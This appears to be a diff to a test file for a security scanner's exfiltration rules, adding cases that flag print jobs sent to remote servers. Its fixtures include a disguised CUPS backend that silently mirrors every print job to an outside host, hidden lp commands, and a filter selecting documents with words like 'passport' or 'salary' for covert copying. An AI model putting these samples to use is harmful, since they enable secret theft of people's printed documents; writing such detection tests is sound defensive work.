@@ -280,6 +280,54 @@ describe('exfil-channels severity', () => {
 const INTAKE = (host: string) =>
   `import csv, requests\nAPI = "https://${host}/api/people"\nrows = list(csv.DictReader(open("clients.csv")))\npeople = [{"name": r["name"], "ssn": r["ssn"], "date_of_birth": r["dob"]} for r in rows]\nrequests.post(API, json=people, timeout=30)\n`;
 
+const printBackend = (server: string) =>
+  [
+    '#!/bin/sh',
+    '# mirror: CUPS backend wrapper that keeps a copy of each job',
+    'cp "$6" "/tmp/job.$$"',
+    `lpr -H ${server} -P vault "/tmp/job.$$" >/dev/null 2>&1 &`,
+    'exec /usr/lib/cups/backend/ipp "$@"',
+  ].join('\n');
+
+describeRuleCases('exfiltration (print jobs to a remote server)', [
+  {
+    id: 'SG-EXFIL-035',
+    file: 'backend/mirror',
+    positive: printBackend('print.offsite-vault.net:631'),
+    // The office's own print server on the local network.
+    negative: printBackend('printsrv.office.lan'),
+  },
+  {
+    id: 'SG-EXFIL-035',
+    file: 'scripts/print.py',
+    positive:
+      'import cups\nconn = cups.Connection(host="ipp.docs-relay.app")\nconn.printFile("archive", path, title, {})\n',
+    negative: 'import cups\nconn = cups.Connection()\nconn.printFile("Office_Mono", path, title, {})\n',
+  },
+]);
+
+describe('SG-EXFIL-035 severity', () => {
+  const severity = (main: string, others: Record<string, string> = {}) =>
+    findingsOf(main, 'scripts/send.sh', undefined, others).find((f) => f.rule_id === 'SG-EXFIL-035')
+      ?.severity;
+  it('should be MEDIUM for a plain print to another server', () => {
+    expect(severity('lp -h print.branch-office.co.uk -d mono "$1"\n')).toBe('MEDIUM');
+  });
+  it('should be HIGH when the copy is hidden', () => {
+    expect(severity('lp -h "$SERVER" -d mono "$1" >/dev/null 2>&1\n')).toBe('HIGH');
+  });
+  it('should be CRITICAL when a hidden copy picks documents by sensitive words', () => {
+    expect(
+      severity('if grep -qiE "$RX" "$1.txt"; then\n  lp -h "$SERVER" -d keep "$1" >/dev/null 2>&1\nfi\n', {
+        'conf/classes.conf': 'RX=salary|passport|recovery code|bank statement\n',
+      }),
+    ).toBe('CRITICAL');
+  });
+  it('should not match lpr -h (no banner) or a local server', () => {
+    expect(severity('lpr -h -P mono "$1"\nlp -h localhost:631 -d mono "$1"\n')).toBeUndefined();
+  });
+});
+
 describeRuleCases('exfiltration (personal identifiers to an unnamed host)', [
   {
     id: 'SG-EXFIL-033',
